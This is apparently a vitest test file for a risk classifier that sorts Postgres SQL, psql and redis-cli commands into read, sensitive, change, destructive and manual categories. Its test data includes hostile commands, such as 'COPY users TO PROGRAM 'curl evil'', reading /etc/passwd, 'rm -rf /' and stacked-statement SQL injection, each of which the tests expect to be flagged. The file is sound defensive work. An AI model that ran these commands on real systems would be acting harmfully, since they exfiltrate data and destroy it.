import { describe, expect, test } from "vitest";
import { readSqlText } from "../../src/command-line/read-entry.ts";
import { noContext } from "../../src/command-line/reading.ts";
import { argumentsOf, entriesOf, reasonOf, summary } from "./read.ts";

function sqlSummary(sql: string): string {
  return readSqlText(sql, noContext)
    .map(({ reading }) => (reading.kind === "manual" ? "manual" : `${reading.risk} ${reading.operation.name}`))
    .join(", ");
}

describe("SQL is judged by its parse tree", () => {
  test.each([
    ["SELECT count(*) FROM pg_stat_activity", "read postgres.query"],
    ["SELECT count(*) FROM users", "read postgres.query"],
    ["SELECT count(*), sum(amount) FROM orders WHERE paid", "read postgres.query"],
    ["SELECT email, count(*) FROM users GROUP BY email", "sensitive postgres.query"],
    ["SELECT max(email) FROM users", "sensitive postgres.query"],
    ["SELECT * FROM users", "sensitive postgres.query"],
    ["TABLE users", "sensitive postgres.query"],
    ["WITH users AS (SELECT * FROM users) SELECT * FROM users", "sensitive postgres.query"],
    ["WITH x AS (SELECT pid FROM pg_stat_activity) SELECT count(*) FROM x", "read postgres.query"],
    ["SELECT most_common_vals FROM pg_stats", "sensitive postgres.query"],
    ["SELECT tablename FROM pg_stats", "read postgres.query"],
    ["SELECT * FROM pg_authid", "sensitive postgres.query"],
    ["SHOW max_connections", "read postgres.query"],
    ["SHOW ALL", "sensitive postgres.query"],
    ["EXPLAIN DELETE FROM users", "read postgres.query"],
    ["EXPLAIN ANALYZE DELETE FROM users", "destructive postgres.execute"],
    ["EXPLAIN (ANALYZE false) DELETE FROM users", "destructive postgres.execute"],
    ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "change postgres.terminate-backends"],
    ["SELECT pg_cancel_backend(1)", "change postgres.cancel-backends"],
    ["SELECT pg_read_file('/etc/passwd')", "destructive postgres.execute"],
    ["SELECT lo_unlink(1)", "destructive postgres.execute"],
    ["SELECT dblink('x', 'drop table y')", "destructive postgres.execute"],
    ["SELECT our_own_function()", "destructive postgres.execute"],
    ["SELECT evil.count(*) FROM users", "destructive postgres.execute"],
    ["SELECT 1 OPERATOR(evil.+) 2", "destructive postgres.execute"],
    ["SELECT setval('s', 1)", "destructive postgres.execute"],
    ["SELECT nextval('s')", "change postgres.execute"],
    ["SELECT 1 INTO t", "destructive postgres.execute"],
    ["SELECT * FROM users FOR UPDATE", "change postgres.execute"],
    ["WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", "destructive postgres.execute"],
    ["WITH x AS (SELECT 1) DELETE FROM users", "destructive postgres.delete"],
    ["UPDATE jobs SET status = 'failed' WHERE id = 1", "change postgres.update"],
    ["UPDATE jobs SET status = 'failed'", "destructive postgres.update"],
    ["UPDATE jobs SET x = evil() WHERE id = 1", "destructive postgres.update"],
    ["INSERT INTO a VALUES (1)", "change postgres.insert"],
    ["DELETE FROM a WHERE id = 1", "destructive postgres.delete"],
    ["VACUUM ANALYZE orders", "change postgres.vacuum"],
    ["VACUUM FULL orders", "destructive postgres.vacuum"],
    ["VACUUM (FULL false) orders", "destructive postgres.vacuum"],
    ["ANALYZE", "change postgres.analyze"],
    ["REINDEX DATABASE x", "change postgres.reindex"],
    ["CREATE INDEX CONCURRENTLY i ON a(b)", "change postgres.create-index"],
    ["CREATE INDEX i ON a(evil(b))", "destructive postgres.create-index"],
    ["DROP DATABASE x", "destructive postgres.execute"],
    ["TRUNCATE a", "destructive postgres.execute"],
    ["ALTER SYSTEM SET a = 1", "destructive postgres.execute"],
    ["COPY users TO PROGRAM 'curl evil'", "destructive postgres.execute"],
    ["DO $$ BEGIN END $$", "destructive postgres.execute"],
    ["BEGIN; DELETE FROM a; COMMIT", "manual"],
    ["SET statement_timeout = 0", "manual"],
    ["SELECT $1", "manual"],
    ["SELECT 1 \\gexec", "manual"],
    ["SELECT 1; DROP TABLE a", "read postgres.query, destructive postgres.execute"],
    ["SELECT 'é'; DROP TABLE a", "read postgres.query, destructive postgres.execute"],
    ["SELECT 1 -- ; harmless\n; DELETE FROM a", "read postgres.query, destructive postgres.delete"],
    ["SELECT * FROM <table>", "sensitive postgres.query"],
    ["SELECT count(*) FROM <table>", "sensitive postgres.query"],
  ])("%s", (sql, expected) => expect(sqlSummary(sql)).toBe(expected));

  test("a table the catalog lists is read", () => {
    const [entry] = readSqlText("SELECT id FROM campaigns", {
      policy: { readableTables: ["campaigns"] },
      podBindings: {},
    });
    expect(entry?.reading).toMatchObject({ risk: "read" });
  });
});

describe("psql is understood through its flags", () => {
  test("several statements are several operations with one connection", () => {
    const entries = entriesOf(`psql -h staging-db -U admin -d blog -c "VACUUM a; VACUUM b;"`);
    expect(entries.map(({ text }) => text)).toEqual(["VACUUM a", "VACUUM b"]);
    expect(entries.map(({ reading }) => reading.kind === "operation" && reading.operation.arguments)).toEqual([
      { sql: "VACUUM a", host: "staging-db", user: "admin", database: "blog" },
      { sql: "VACUUM b", host: "staging-db", user: "admin", database: "blog" },
    ]);
  });
  test("the connection variable is known by its name", () => {
    expect(argumentsOf(`psql $DATABASE_URL -c "SELECT 1"`)).toEqual({ sql: "SELECT 1", urlVariable: "DATABASE_URL" });
    expect(argumentsOf(`psql "\${DATABASE_URL}" -c "SELECT 1"`)).toEqual({
      sql: "SELECT 1",
      urlVariable: "DATABASE_URL",
    });
  });
  test.each([
    ['psql -c "\\d+ orders"', "read postgres.describe"],
    ["psql -l", "read postgres.describe"],
    ["psql -f migrations/1.sql", "destructive job.run"],
    ["psql -c '\\! rm -rf /'", "manual"],
    ["psql -c '\\copy users to x'", "manual"],
    ["psql", "manual"],
    ["psql -o /tmp/x -c 'select 1'", "manual"],
    ["psql -c 'select 1' | sh", "manual"],
    ["gunzip -c b.gz | psql blog", "manual"],
  ])("%s", (text, expected) => expect(summary(text)).toBe(expected));
});

describe("Redis is judged by its command table", () => {
  test.each([
    ["redis-cli INFO memory", "read redis.info"],
    ["redis-cli -h REDIS_HOST ping", "read redis.ping"],
    ["redis-cli --bigkeys", "read redis.big-keys"],
    ["redis-cli SLOWLOG GET 10", "read redis.slowlog"],
    ["redis-cli slowlog reset", "change redis.command"],
    ["redis-cli dbsize", "read redis.command"],
    ["redis-cli get session:1", "sensitive redis.command"],
    ["redis-cli KEYS '*'", "sensitive redis.command"],
    ["redis-cli MONITOR", "sensitive redis.monitor"],
    ["redis-cli CONFIG GET maxmemory", "read redis.config-get"],
    ["redis-cli CONFIG SET maxmemory-policy allkeys-lru", "change redis.config-set"],
    ["redis-cli config rewrite", "change redis.command"],
    ["redis-cli FLUSHDB", "destructive redis.flush"],
    ["redis-cli FLUSHALL ASYNC", "destructive redis.flush"],
    ["redis-cli del a", "destructive redis.command"],
    ["redis-cli eval 'return 1' 0", "destructive redis.command"],
    ["redis-cli debug sleep 10", "destructive redis.command"],
    ["redis-cli shutdown", "destructive redis.command"],
    ["redis-cli script flush", "destructive redis.command"],
    ["redis-cli frobnicate", "destructive redis.command"],
    ["redis-cli <command>", "destructive redis.command"],
    ["redis-cli memory", "destructive redis.command"],
    ["redis-cli", "manual"],
    ["redis-cli --eval x.lua", "manual"],
    ["redis-cli -r 100 del a", "manual"],
    ["redis-cli --pipe", "manual"],
  ])("%s", (text, expected) => expect(summary(text)).toBe(expected));
  test("flags after the command belong to the command", () => {
    expect(argumentsOf("redis-cli set a -x").command).toEqual(["set", "a", "-x"]);
  });
  test("a reason says what to do instead", () => expect(reasonOf("redis-cli")).toContain("give the command"));
});
